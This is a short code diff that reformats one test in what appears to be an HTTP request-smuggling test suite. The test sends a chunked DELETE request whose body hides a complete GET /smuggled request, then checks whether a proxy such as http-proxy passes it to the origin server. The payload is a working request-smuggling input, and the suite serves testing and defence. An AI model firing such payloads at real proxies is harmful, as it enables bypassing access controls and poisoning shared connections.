@@ -6,12 +6,18 @@ export const chunkedDelete: Attack = {
   title: 'a request in the body of a chunked DELETE',
   async run(t, victim) {
     const inner = 'GET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n';
-    const client = await send(t, victim, `DELETE /outer HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n${inner.length.toString(16)}\r\n${inner}\r\n0\r\n\r\n`);
+    const client = await send(
+      t,
+      victim,
+      `DELETE /outer HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n${inner.length.toString(16)}\r\n${inner}\r\n0\r\n\r\n`,
+    );
     await client.expect('\r\n\r\n').catch(() => undefined);
     await new Promise((resolve) => setTimeout(resolve, 300));
     const told = victim.origin.to('/outer')[0];
     // http-proxy announces no body and sends it all the same: the server reads a request in it.
-    const smuggled = victim.origin.to('/smuggled').length > 0 || (told !== undefined && /content-length: 0/i.test(told.head) && told.connection.text.includes('/smuggled'));
+    const smuggled =
+      victim.origin.to('/smuggled').length > 0 ||
+      (told !== undefined && /content-length: 0/i.test(told.head) && told.connection.text.includes('/smuggled'));
     return smuggled ? 'the server reads the inner request' : undefined;
   },
 };
